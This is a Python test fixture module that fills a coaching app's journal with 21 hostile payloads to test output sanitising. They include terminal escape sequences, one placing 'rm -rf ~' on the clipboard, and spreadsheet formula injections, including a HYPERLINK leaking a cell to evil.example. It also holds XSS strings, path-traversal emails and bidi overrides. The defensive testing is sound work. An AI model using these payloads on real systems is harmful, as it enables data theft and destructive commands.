"""A journal full of hostile outside text: the 21 payloads of the issue, and names that must
still read as typed.

`build_hostile(path)` writes one agent per payload into a real journal (the demo copy, so
the catalogue and the other agents are there) through the Journal's public methods: the
payload is the agent's name and team, and the text of a signed talk (rating note, learning
point, goal, support, agreements, agent's words, signatures, addendum), of this month's
draft and of a shared and a private quick note. Tests reuse it for every output.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from coachtui import clock
from coachtui.model import Agent, Figure, Note, Rating
from coachtui.storage import Journal

PAYLOADS: dict[str, str] = {
    "osc52_clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07Kees",
    "osc2_title": "\x1b]2;owned\x07Sanne",
    "csi_clear": "\x1b[2J\x1b[HPiet",
    "c1_csi": "\x9b2J\x9b31mAnna",
    "osc8_link": "\x1b]8;;https://evil.example/\x1b\\Klik\x1b]8;;\x1b\\",
    "bel": "Bel\x07\x07 de Vries",
    "hyperlink": '=HYPERLINK("https://evil.example/?d="&A1;"Klik")',
    "plus_sum": "+SUM(1+2)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at_sum": "@SUM(1,2)",
    "tab_formula": "\t=1+2",
    "cr_formula": "\r=1+2",
    "script": "<script>alert(1)</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "md_image": "![](http://evil.example/t.png)",
    "md_js_link": "[klik](javascript:alert(1))",
    "dotdot_email": "../../escaped",
    "rtl_override": "Ali \u202egnp.exe",
    "nul_del": "Nul\x00Del\x7f",
    "c1_osc": "\x9d2;owned\x9cMo",
    "long_mixed": "Zoë Z\u0324\u0354\u0345a\u0317l\u0320go 👩\u200d💻 " + "lang " * 120,
}
# The e-mails that are an attack themselves; the others are plain.
EMAILS = {
    "dotdot_email": "../../../tmp/escaped@example.nl",
    "rtl_override": "ali.\u202egnp.exe@example.nl",
    "osc2_title": "x\x1b]2;owned\x07@example.nl",
}
# Names that must still read exactly as typed, next to the hostile ones.
READABLE = {"ayse": "Ayşe Çelik", "lukasz": "Łukasz Wójcik", "extern": "Jan [extern] de Vries",
            "emoji": "Zoë 👩\u200d💻 Ñúñez"}
SIGNED_MONTH = "2026-09"
DRAFT_MONTH = "2026-10"

# What a terminal must never receive raw: C0 but newline (and tab), DEL, C1, bidi controls.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e"
                         "\u2066-\u2069]")


@dataclass(frozen=True)
class HostileAgent:
    """One agent written by `build_hostile`: which payload, its ids and what was stored."""

    key: str
    payload: str
    agent_id: int
    email: str
    signed_id: int
    draft_id: int


def email_for(key: str, index: int) -> str:
    """The e-mail of the agent carrying payload `key`."""
    return EMAILS.get(key, f"hostile{index:02d}@example.nl")


def build_hostile(path: Path) -> list[HostileAgent]:
    """Write one agent per payload (and the readable names) into the journal at `path`."""
    made = []
    with Journal.open(path) as journal:
        texts = {**PAYLOADS, **READABLE}
        for index, (key, payload) in enumerate(texts.items()):
            made.append(_agent(journal, key, payload, email_for(key, index)))
    return made


def _agent(journal: Journal, key: str, payload: str, email: str) -> HostileAgent:
    name = payload if payload.strip() else f"{key} {payload}"
    agent = journal.add_agent(Agent(name=name, email=email, team=payload))
    assert agent.id is not None
    journal.save_figures(Figure(agent_id=agent.id, month=month, metric="ftr", value=v)
                         for month, v in ((SIGNED_MONTH, -2.5), (DRAFT_MONTH, 80.0)))
    with clock.frozen_at(datetime(2026, 10, 6, 10, tzinfo=UTC)):
        past = journal.start_session(agent.id, SIGNED_MONTH)
        assert past.id is not None
        journal.save_rating(past.id, "initiative", Rating.PLUS, note=payload)
        journal.save_rating(past.id, "collaboration", Rating.MIXED, note=payload)
        journal.set_learning_point(past.id, payload)
        goal = journal.add_goal(past.id)
        assert goal.id is not None
        for field in ("what", "measure", "target", "why", "support"):
            journal.save_goal_field(goal.id, field, payload)
        for field in ("support", "agreements", "agent_comments", "private_notes"):
            journal.save_session_field(past.id, field, payload)
        journal.sign(past.id, f"MJ {payload}", f"{payload} AG")
        journal.add_addendum(past.id, f"addendum {payload}")
    since = datetime(2026, 11, 2, 9, tzinfo=UTC)
    journal.add_note(Note(agent_id=agent.id, created_at=since, text=f"note {payload}",
                          factor="initiative", rating=Rating.MINUS, contact_ref=payload))
    journal.add_note(Note(agent_id=agent.id, created_at=since, text=f"private {payload}",
                          private=True))
    draft = journal.start_session(agent.id, DRAFT_MONTH)
    assert draft.id is not None
    journal.save_session_field(draft.id, "support", payload)
    journal.save_session_field(draft.id, "private_notes", payload)
    return HostileAgent(key, payload, agent.id, agent.email, past.id, draft.id)


def readable(text: str) -> str:
    """What a person should read for `text`: the text as `shown()` renders it."""
    from coachtui.outside_text import shown

    return shown(text)
